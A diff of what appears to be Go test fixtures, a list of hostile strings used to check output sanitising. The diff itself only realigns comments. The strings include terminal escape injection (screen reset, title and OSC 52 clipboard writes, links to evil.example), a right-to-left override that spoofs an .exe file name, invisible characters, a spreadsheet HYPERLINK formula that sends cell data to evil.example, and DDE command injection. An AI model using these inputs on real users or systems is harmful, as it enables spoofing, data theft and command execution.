@@ -13,16 +13,16 @@ const Mark = "EVIL"
 
 // Texts are the attacks, one of a kind each.
 var Texts = []string{
-	"\x1b[5;31m\x1b[2J\x1b[10;10H" + Mark + "\x1b[?1049l\x1bc",                                                    // colours, clears, moves, leaves, resets
+	"\x1b[5;31m\x1b[2J\x1b[10;10H" + Mark + "\x1b[?1049l\x1bc",                                                     // colours, clears, moves, leaves, resets
 	"\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;http://evil.example\x1b\\" + Mark + "\x1b]8;;tel:110\x07\x1b\\", // the title, the clipboard, links
-	"\x1bP1;1q~\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b^x\x1b\\\x1bXy\x1b\\" + Mark,                                       // pictures, privacy messages
-	c1() + "\u009b5;31m" + Mark + "\u009c",                                                                        // every C1 control
-	"\x80\x9b5m" + Mark + "\x9d0;owned\x9c",                                                                       // the same as bytes
-	"\u202e" + Mark + "\u2066\u2067\u2068\u200f\u061c\u202agnp.exe",                                               // turns the writing round
-	"\u200b\u200c" + Mark + "\u200d\u2060\ufeff\u00ad\ufe0f\u180e\U000e0041",                                      // nothing to be seen
-	"\u0301\u0300\u20dd" + Mark + strings.Repeat("\u0336", 60),                                                    // marks alone, and heaps of them
-	strings.Repeat("王"+Mark, 400),                                                                                 // long, and two cells wide
-	strings.Repeat(Mark, 900),                                                                                     // one word without end
+	"\x1bP1;1q~\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b^x\x1b\\\x1bXy\x1b\\" + Mark,                                        // pictures, privacy messages
+	c1() + "\u009b5;31m" + Mark + "\u009c",                                                                         // every C1 control
+	"\x80\x9b5m" + Mark + "\x9d0;owned\x9c",                                                                        // the same as bytes
+	"\u202e" + Mark + "\u2066\u2067\u2068\u200f\u061c\u202agnp.exe",                                                // turns the writing round
+	"\u200b\u200c" + Mark + "\u200d\u2060\ufeff\u00ad\ufe0f\u180e\U000e0041",                                       // nothing to be seen
+	"\u0301\u0300\u20dd" + Mark + strings.Repeat("\u0336", 60),                                                     // marks alone, and heaps of them
+	strings.Repeat("王"+Mark, 400),                                                                                  // long, and two cells wide
+	strings.Repeat(Mark, 900),                                                                                      // one word without end
 	`=HYPERLINK("http://evil.example?"&A1,"` + Mark + `")`,
 	"+cmd|'/C calc'!A0 " + Mark,
 	"@SUM(1+1)*cmd " + Mark,
